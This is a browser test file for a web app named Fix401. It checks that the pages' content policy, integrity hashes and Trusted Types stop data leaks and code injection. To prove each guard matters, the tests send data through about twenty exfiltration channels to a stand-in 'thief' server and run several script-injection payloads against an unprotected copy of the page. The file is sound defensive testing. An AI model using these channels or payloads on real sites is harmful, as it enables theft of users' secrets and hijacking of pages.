// Nothing leaves the page, and nothing gets in: the content policy, hashes and
// Trusted Types of the shipped files, each shown to matter by taking it away.
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync, readdirSync } from "node:fs";
import { join, posix } from "node:path";
import { after, before, test } from "node:test";
import { Fix401, eventually } from "./page.mjs";
import { WHOLE_KEY } from "./pastes.mjs";
import { key, leaks } from "./secrets.mjs";
import { DIST, serve } from "./serve.mjs";
import { suite } from "./suite.mjs";

const self = suite();
const policy = /<meta http-equiv="?Content-Security-Policy"? content="[^"]*">/i;
const bare = (name, body) => (name.endsWith(".html") ? String(body).replace(policy, "") : body);
const files = readdirSync(DIST, { recursive: true }).map((file) => file.replaceAll("\\", "/"));
const pages = files.filter((file) => file.endsWith(".html"));

/** A server of someone else's, which the policy does not name; and the page without its policy. */
let thief;
let unguarded;
before(async () => {
  thief = await serve();
  unguarded = await serve({ change: bare });
});
after(() => Promise.all([thief.close(), unguarded.close()]));

const both = async (t) => [
  await self.open(t),
  await Fix401.open(await self.context(t), unguarded.url),
];

test("a whole visit with a key asks for the page's own files and nothing else", async (t) => {
  const context = await self.context(t, { serviceWorkers: "allow" });
  const asked = [];
  context.on("request", (request) => asked.push(request.url() + (request.postData() ?? "")));
  context.on("page", (page) => page.on("websocket", (socket) => asked.push(socket.url())));
  const fix401 = await Fix401.open(context, self.site.url);
  for (const paste of [WHOLE_KEY, `OPENAI_API_KEY="${key()}"`, key()]) {
    await fix401.type(paste);
    await fix401.answered();
    await fix401.link();
  }
  await fix401.markdown();
  for (const example of await fix401.examples.getByRole("button").all()) await example.click();
  await fix401.type(WHOLE_KEY);
  await fix401.show.press("Enter");
  await fix401.openCheck();
  await fix401.key.fill(key());
  await fix401.page.getByRole("button", { name: /^Theme/ }).click();
  await fix401.page.emulateMedia({ media: "print" });
  await fix401.page.emulateMedia({ media: "screen" });
  await fix401.causes.first().getByRole("link", { name: "More about this cause" }).click();
  await fix401.page.getByRole("heading", { level: 1 }).waitFor();
  await fix401.page.goBack();
  await fix401.ready();
  await fix401.clear.click();

  assert.ok(asked.length > 5);
  for (const url of asked) {
    assert.ok(url.startsWith(self.site.url) && !leaks(decodeURIComponent(url), key()), "a request to elsewhere");
    const path = url.slice(self.site.url.length).replace(/#.*$/, "");
    assert.ok(files.includes(path || "index.html") || files.includes(`${path}index.html`), `no file of dist/: ${path}`);
  }
});

/** Ways to send something away, each in the page's own window. */
const WAYS = {
  fetch: (url) => fetch(url, { mode: "no-cors" }),
  XMLHttpRequest: (url) => {
    const request = new XMLHttpRequest();
    request.open("POST", url);
    request.send("x");
  },
  image: (url) => {
    new Image().src = url;
  },
  "background image": (url) => {
    document.body.style.backgroundImage = `url(${url})`;
  },
  font: (url) => new FontFace("x", `url(${url})`).load(),
  video: (url) => {
    document.createElement("video").src = url;
  },
  form: (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
  },
  WebSocket: (url) => new WebSocket(url.replace("http:", "ws:")),
  beacon: (url) => navigator.sendBeacon(url, "x"),
  EventSource: (url) => new EventSource(url),
  frame: (url) => document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
  object: (url) => document.body.append(Object.assign(document.createElement("object"), { data: url })),
  stylesheet: (url) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url })),
  prefetch: (url) => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url })),
  preload: (url) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "image", href: url })),
  modulepreload: (url) =>
    document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: url })),
  script: (url) => document.body.append(Object.assign(document.createElement("script"), { src: url })),
  module: (url) => import(url),
  ping: (url) => {
    const link = Object.assign(document.createElement("a"), { href: "#guide", ping: url });
    document.body.append(link);
    link.click();
  },
  "worker from a blob": (url) => {
    const source = new Blob([`fetch(${JSON.stringify(url)}, { mode: "no-cors" })`], { type: "text/javascript" });
    return new Worker(URL.createObjectURL(source));
  },
};

test("what sends things away is refused, and would get through without the policy", async (t) => {
  const [guarded, open] = await both(t);
  const address = (way, from) => `${thief.url.replace("127.0.0.1", "localhost")}${from}/${encodeURIComponent(way)}`;
  for (const [from, fix401] of [["guarded", guarded], ["open", open]]) {
    for (const [way, send] of Object.entries(WAYS)) {
      await fix401.page.evaluate(send, address(way, from)).catch(() => {});
    }
  }
  const got = (from) => Object.keys(WAYS).filter((way) => thief.requests.includes(`/${from}/${way}`));
  await eventually(() => assert.deepEqual(got("open"), Object.keys(WAYS), "a way that sends nothing even unguarded"));
  await guarded.page.waitForTimeout(500);
  assert.deepEqual(got("guarded"), []);
});

/** Ways to run a text as code. Each would set `window.ran`. */
const CODE = {
  eval: () => eval("window.ran = 1"),
  Function: () => new Function("window.ran = 1")(),
  "setTimeout with a text": () => setTimeout("window.ran = 1"),
  "inline script": () => {
    const script = document.createElement("script");
    script.textContent = "window.ran = 1";
    document.body.append(script);
  },
  "event attribute": () => {
    document.body.setAttribute("onclick", "window.ran = 1");
    document.body.click();
  },
  "javascript: address": () => {
    const link = Object.assign(document.createElement("a"), { href: "javascript:void(window.ran = 1)" });
    document.body.append(link);
    link.click();
  },
  innerHTML: () => {
    document.createElement("div").innerHTML = "<img src=x: onerror='window.ran = 1'>";
  },
  "script from a blob": () => {
    const source = URL.createObjectURL(new Blob(["window.ran = 1"], { type: "text/javascript" }));
    document.body.append(Object.assign(document.createElement("script"), { src: source }));
  },
};

test("no text becomes code, as it would without the policy", async (t) => {
  const [guarded, open] = await both(t);
  const ran = ({ page }) => page.evaluate(() => window.ran);
  for (const [way, run] of Object.entries(CODE)) {
    for (const { page } of [guarded, open]) {
      // In a task of the page's own: what a test evaluates is allowed more.
      await page.evaluate(`window.ran = undefined; setTimeout(${run})`);
    }
    await eventually(async () => assert.equal(await ran(open), 1, `${way} does nothing even unguarded`));
    assert.equal(await ran(guarded), undefined, way);
  }
  await guarded.page.waitForTimeout(200);
  assert.equal(await ran(guarded), undefined);
});

test("Trusted Types are on: no markup from text, no policy but the page's own", async (t) => {
  const fix401 = await self.open(t);
  for (const path of ["", "causes/", "causes/malformed-key/"]) {
    await fix401.page.goto(self.site.url + path);
    const thrown = await fix401.page.evaluate(() => [
      () => { document.body.innerHTML = "<b>x</b>"; },
      () => document.body.insertAdjacentHTML("beforeend", "<b>x</b>"),
      () => document.write("x"),
      () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
      () => trustedTypes.createPolicy("mine", {}),
      () => trustedTypes.createPolicy("default", {}),
      () => trustedTypes.createPolicy("fix401", {}),
    ].map((attempt) => {
      try {
        attempt();
        return "went through";
      } catch (error) {
        return error.name;
      }
    }));
    assert.deepEqual(thrown, Array(7).fill("TypeError"), path);
  }
});

/** What every shipped page loads and holds, as the browser reads its HTML. */
async function parsed(t) {
  const page = await (await self.context(t)).newPage();
  return Promise.all(pages.map(async (name) => [name, await page.evaluate((html) => {
    const { head, documentElement: root } = new DOMParser().parseFromString(html, "text/html");
    const attributes = (element) => Object.fromEntries([...element.attributes].map(({ name, value }) => [name, value]));
    return {
      policy: head.querySelector("meta[http-equiv=Content-Security-Policy]")?.content,
      first: [...head.children].findIndex((element) => element.httpEquiv === "Content-Security-Policy"),
      scripts: [...root.querySelectorAll("script")].map(attributes),
      links: [...root.querySelectorAll("link[href]")].map(attributes),
      inline: [...root.querySelectorAll("*")].filter((element) =>
        element.localName === "style" || element.hasAttribute("style") ||
        [...element.attributes].some(({ name }) => name.startsWith("on"))).length,
    };
  }, readFileSync(join(DIST, name), "utf8"))]));
}

test("every page has its policy before anything it loads, and no inline script or style", async (t) => {
  for (const [name, { policy, first, scripts, inline }] of await parsed(t)) {
    assert.match(policy ?? "", /^default-src 'none'; /, name);
    assert.match(policy, /require-trusted-types-for 'script'/, name);
    assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|\*\.|\bhttps?:(\s|;|$)/, name);
    assert.ok(first <= 1, `${name}: only the encoding comes before the policy`);
    assert.equal(inline, 0, name);
    for (const script of scripts) assert.ok(script.src ?? script.type === "application/ld+json", name);
  }
});

test("every script and style is held to its hash", async (t) => {
  const digest = (path) => `sha384-${createHash("sha384").update(readFileSync(join(DIST, path))).digest("base64")}`;
  for (const [name, { scripts, links }] of await parsed(t)) {
    const path = (address) => posix.join(posix.dirname(name), address);
    const loaded = [
      ...scripts.filter(({ src }) => src).map(({ src, integrity }) => [src, integrity]),
      ...links.filter(({ rel }) => ["stylesheet", "modulepreload"].includes(rel))
        .map(({ href, integrity }) => [href, integrity]),
      ...scripts.filter((script) => "data-wasm" in script)
        .map((script) => [script["data-wasm"], script["data-wasm-integrity"]]),
    ];
    if (name === "index.html") {
      // The script asks for the second part by itself.
      const glue = readFileSync(join(DIST, links.find(({ rel }) => rel === "modulepreload").href), "utf8");
      const { address, integrity } = /fetch\(new URL\("(?<address>.\/desk-[^"]+)",import\.meta\.url\),\{integrity:"(?<integrity>[^"]+)"\}\)/.exec(glue).groups;
      loaded.push([address, integrity]);
    }
    assert.ok(loaded.length >= 2, name);
    for (const [address, integrity] of loaded) {
      assert.doesNotMatch(address, /^[a-z]+:|^\//, `${name}: ${address}`);
      assert.equal(integrity, digest(path(address)), `${name}: ${address}`);
    }
  }
});

test("nothing of the machine that built it is in the wasm", () => {
  const parts = readdirSync(DIST).filter((name) => name.endsWith(".wasm"));
  assert.equal(parts.length, 2);
  for (const name of parts) {
    const folders = readFileSync(join(DIST, name), "latin1").match(/[\w.\/-]*\/(\.cargo|\.rustup|registry)\/[\w.\/-]*/g);
    assert.equal(folders, null, `${name}: build it with scripts/build`);
  }
});

test("a style that was changed on its way is refused", async (t) => {
  const site = await serve({ change: (name, body) => (name.endsWith(".css") ? `${body} ` : body) });
  t.after(() => site.close());
  const fix401 = await Fix401.open(await self.context(t), site.url);
  assert.equal(await fix401.page.evaluate(() => document.styleSheets.length), 0);
});
